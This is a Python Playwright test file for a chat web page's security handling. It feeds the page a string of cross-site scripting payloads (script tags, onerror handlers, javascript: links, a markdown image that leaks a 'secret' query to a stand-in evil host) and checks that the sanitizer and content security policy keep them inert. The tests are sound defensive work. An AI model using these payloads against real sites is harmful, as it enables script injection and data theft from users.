"""What the chat page does when models, files, servers and keys are not what they should be."""

import re

import pytest

from opennemo.serve.error_bodies import Refusal
from opennemo.serve.gate import PAGE_POLICY

expect = pytest.importorskip("playwright.sync_api").expect

HOSTILE = """<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">
<img src="https://evil.example/track.png"><iframe src="https://evil.example"></iframe>

![an image](https://evil.example/leak.png?q=secret)
[a link](javascript:window.pwned=1) [data](data:text/html,<script>pwned=1</script>)
[twice](&#106;avascript:window.pwned=1) [ok](https://good.example/)

<svg onload="window.pwned = 1"><style>body { display: none }</style><a href="javascript:1">x</a>
<form action="https://evil.example"><input name=a><button>b</button></form>

| a |
|---|
| <img src=x onerror=pwned=1> |

```"><img src=x onerror=pwned=1>
</code><script>window.pwned = 1</script>
```"""


def inert(chat) -> None:
    page = chat.page
    assert page.evaluate("window.pwned === undefined && !document.body.matches('[onload]')")
    for name in ("script", "img", "iframe", "svg", "style", "form", "input", "object"):
        assert page.locator(f".markdown {name}:not(button svg)").count() == 0, name
    links = page.locator("#thread a[href]").evaluate_all("all => all.map(a => [a.href, a.rel])")
    assert all(re.match("https?://", href) and "noopener" in rel for href, rel in links)
    for text in ("<script>window.pwned = 1</script>", 'onerror="window.pwned = 1"', "<iframe"):
        expect(page.locator(".assistant .body")).to_contain_text(text)
    assert not chat.foreign


@pytest.mark.usefixtures("libraries")
def test_hostile_answers_do_nothing(chat):
    page = chat.open().page
    chat.ask("<img src=x onerror=pwned=1>", HOSTILE)
    inert(chat)
    assert page.get_by_role("link", name="ok").get_attribute("href") == "https://good.example/"
    page.wait_for_timeout(500)
    page.reload()
    inert(chat)
    page.get_by_label("Token view").click()
    chat.ask("Again", "<img src=x onerror=pwned=1>")
    expect(page.locator(".tokens")).to_contain_text("<img src=x")
    assert page.evaluate("window.pwned === undefined")


def test_hostile_files_do_nothing(chat):
    page = chat.open().page
    call = {"function": {"name": "<img src=x onerror=pwned=1>", "arguments": "<script>1</script>"}}
    messages = [
        {"role": "user", "content": HOSTILE},
        {"role": "assistant", "content": HOSTILE, "tool_calls": [call]},
        {"role": "tool", "name": "<img src=x>", "content": HOSTILE},
        {"role": "assistant", "content": HOSTILE},
    ]
    chat.take({"messages": messages, "metadata": {"title": "<img src=x onerror=pwned=1>"}})
    expect(page.locator("#title")).to_have_text("<img src=x onerror=pwned=1>")
    expect(page.locator("article")).to_have_count(4)
    assert page.locator("#thread img, #thread script, #conversations img").count() == 0
    assert page.evaluate("window.pwned === undefined")


def test_the_policy_would_stop_what_came_past_the_sanitizer(chat):
    page = chat.open().page
    assert "unsafe" not in PAGE_POLICY and "http" not in PAGE_POLICY
    assert page.goto(chat.url).headers["content-security-policy"] == PAGE_POLICY
    refused = page.evaluate(
        """() => { try { document.body.innerHTML = "<b>x</b>"; } catch (e) { return e.name; } }"""
    )
    assert refused == "TypeError"
    failures = []
    page.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
    page.evaluate(
        """() => {
            const image = new Image();
            image.src = "https://evil.example/x.png";
            const script = document.createElement("script");
            try { script.text = "window.pwned = 1"; } catch { script.append("window.pwned = 1"); }
            document.body.append(image, script);
        }"""
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.pwned === undefined")
    assert failures == [("https://evil.example/x.png", "csp")]
    chat.foreign.clear()  # it was tried, and stopped in the browser
    assert chat.complaints and all(
        "Content Security" in c or "Trusted" in c for c in chat.complaints
    )
    chat.complaints.clear()


def test_a_key_is_asked_for_and_kept_as_wanted(chat):
    page = chat.open(key=None).page
    dialog = page.get_by_role("dialog", name="API key")
    expect(dialog).to_contain_text("asks for one")
    page.fill("#key", "not-the-key")
    page.keyboard.press("Enter")
    expect(dialog).to_contain_text("does not know this key")
    page.keyboard.press("Escape")
    expect(page.locator("#notice")).to_contain_text("no valid API key")
    page.click("text=Enter a key")
    page.fill("#key", chat.server.key)
    page.click("text=Use it")
    expect(page.locator("#model option")).to_be_attached()
    expect(page.locator("#notice")).to_be_hidden()
    chat.ask("Hi", "Hello")
    expect(page.locator(".assistant .body")).to_have_text("Hello")
    where = "() => [sessionStorage.getItem('key'), localStorage.getItem('key')]"
    assert page.evaluate(where) == [chat.server.key, None]
    page.get_by_role("button", name="API key").click()
    page.fill("#key", chat.server.key)
    page.check("#key-keep")
    page.click("text=Use it")
    assert page.evaluate(where) == [None, chat.server.key]
    page.get_by_role("button", name="API key").click()
    page.click("text=Forget")
    assert page.evaluate(where) == [None, None]
    page.close()  # the last refusal may not have been told yet
    assert all("401" in complaint for complaint in chat.complaints)
    chat.complaints.clear()


def test_errors_stand_where_they_happen_and_can_be_retried(chat):
    page = chat.open().page
    chat.extra = {"temperature": 77}
    chat.ask("Hi")
    error = page.locator(".assistant .error")
    expect(error).to_contain_text("temperature")
    chat.extra = {"structured_outputs": {"choice": ["Hello"]}}
    page.click("text=Try again")
    chat.wait()
    expect(page.locator("article .body")).to_have_text(["Hi", "Hello"])
    expect(error).to_have_count(0)
    expect(page.get_by_role("group", name="Versions")).to_have_count(0)

    chat.extra = {"ignore_eos": True, "max_tokens": 3500}
    page.fill("#draft", "On")
    page.press("#draft", "Enter")
    expect(page.locator(".running .stats")).to_contain_text("tokens")
    for generation in list(chat.server.service.active):
        generation.abort(Refusal(503, "the server is shutting down"))
    expect(error).to_contain_text("shutting down")
    expect(page.locator(".assistant .markdown").last).not_to_be_empty()  # what came stays

    page.route("**/v1/chat/completions", lambda route: route.abort())
    page.click("text=Try again")
    expect(error).to_contain_text("does not answer")
    chat.complaints.clear()


def test_it_works_without_the_libraries(chat):
    chat.page.route("**/vendor/*", lambda route: route.fulfill(status=404))
    page = chat.open().page
    chat.ask("Hi", "**As** it <b>is</b>\n\n    x")
    expect(page.locator(".markdown.plain")).to_have_text("**As** it <b>is</b>\n\n    x")
    assert all("404" in complaint for complaint in chat.complaints)
    chat.complaints.clear()
